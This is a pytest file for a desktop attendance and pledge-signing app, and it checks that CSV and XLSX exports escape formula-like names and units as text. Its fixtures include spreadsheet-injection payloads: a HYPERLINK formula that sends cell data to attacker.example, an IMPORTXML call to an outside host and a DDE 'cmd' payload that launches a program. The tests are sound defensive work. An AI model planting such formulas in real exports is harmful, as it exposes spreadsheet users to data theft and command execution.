"""Exports are data, not code: names and units that look like formulas come out of every CSV
and XLSX the station writes as text (a leading apostrophe), through the real export commands,
read back with csv and openpyxl; NIPs stay text."""

from __future__ import annotations

import contextlib
import csv
import io
from pathlib import Path

import pytest
from openpyxl import load_workbook

from desktop_app.cli.main import main
from desktop_app.demo.factory import nip_at
from desktop_app.services.roster_import import apply_roster
from pakta_common.integrity.cells import neutralise_cell as neutralise
from pakta_common.roster_file import RosterRow
from tests.documents.factory import Ceremony, make_ceremony, sign

HOSTILE = (
    '=HYPERLINK("http://attacker.example/?d="&B2,"Klik di sini")',
    "@SUM(1+1)",
    "+1",
    "-1",
    "\tTab Santoso",
    "\rCarriage Return",
    "\nNewline Putri",
    " =1+1",
    "\uff1dSUM(1+1)",
    "=cmd|' /C calc'!A0",
)
HOSTILE_UNIT = '=IMPORTXML(CONCAT("http://x.example/",A2),"//a")'


@pytest.fixture
def hostile(data_dir: Path) -> Ceremony:
    """Records whose snapshot carries hostile names (as they could arrive from another desk
    or the server; the roster reader itself turns tabs and line breaks into spaces)."""
    c = make_ceremony(data_dir, people=1)
    rows = [
        RosterRow(
            row=i + 2,
            identifier=nip_at(100 + i),
            id_kind="nip",
            name=name,
            position="=1+2",
            unit=HOSTILE_UNIT if i % 2 else "@Dinas Kominfo",
            instansi="+62 Pemerintah Kota Malang",
        )
        for i, name in enumerate(HOSTILE)
    ]
    apply_roster(c.store, rows, [], c.ceremony_id)
    for row in rows:
        sign(c, row.identifier)
    c.store.close()
    return c


def _export(data_dir: Path, kind: str, fmt: str, out: Path) -> None:
    with contextlib.redirect_stdout(io.StringIO()):
        code = main(
            ["--data-dir", str(data_dir), "export", kind, "--format", fmt, "--out", str(out)]
        )
    assert code == 0


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as fh:
        return list(csv.reader(fh))


def _xlsx_cells(path: Path) -> list[list[object]]:
    sheet = load_workbook(path).worksheets[0]
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)  # no formula
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def _is_safe(value: object) -> bool:
    if not isinstance(value, str) or not value:
        return True
    return value[0] not in "=+-@\t\r\n\uff1d" and not value.lstrip(" ").startswith("=")


@pytest.mark.parametrize("kind", ["attendance", "pledges"])
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_formula_names_come_out_as_text(
    hostile: Ceremony, data_dir: Path, tmp_path: Path, kind: str, fmt: str
) -> None:
    out = tmp_path / f"{kind}.{fmt}"
    _export(data_dir, kind, fmt, out)
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    header = [str(v) for v in cells[0]]
    name_col, nip_col, unit_col = (
        header.index("Nama"),
        header.index("NIP"),
        header.index("Unit Kerja"),
    )
    names = {str(row[name_col]) for row in cells[1:]}
    # a bare CR comes back as LF (csv's reader and XML's line-end rule both fold it)
    names |= {n.replace("\n", "\r") for n in names}
    for name in HOSTILE:
        assert "'" + name in names, name  # kept, as text: the data itself is not lost
    for row in cells[1:]:
        assert all(_is_safe(v) for v in row), row
        nip = row[nip_col]
        assert isinstance(nip, str) and len(nip) == 18 and nip.isdigit()  # text, all digits
    assert "'" + HOSTILE_UNIT in {str(row[unit_col]) for row in cells[1:]}
    if fmt == "xlsx":
        sheet = load_workbook(out).worksheets[0]
        nip_cells = [row[nip_col] for row in sheet.iter_rows(min_row=2)]
        assert all(c.data_type == "s" and c.number_format == "@" for c in nip_cells)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_progress_units_come_out_as_text(
    hostile: Ceremony, data_dir: Path, tmp_path: Path, fmt: str
) -> None:
    out = tmp_path / f"progress.{fmt}"
    _export(data_dir, "progress", fmt, out)
    cells = _csv_cells(out) if fmt == "csv" else _xlsx_cells(out)
    units = [str(row[0]) for row in cells[1:]]
    assert "'" + HOSTILE_UNIT in units and "'@Dinas Kominfo" in units
    assert all(_is_safe(row[0]) for row in cells[1:])
    if fmt == "xlsx":  # the counts stay numbers
        assert all(isinstance(row[1], int) for row in cells[1:])


def test_neutralise_leaves_plain_values_alone() -> None:
    for value in ("Siti Nurhaliza", "198001012005011001", "Dinas-Pendidikan", "", "a=b", "1-2"):
        assert neutralise(value) == value
    assert neutralise(-1) == -1 and neutralise(3.5) == 3.5 and neutralise(None) is None
    assert neutralise("-") == "'-"
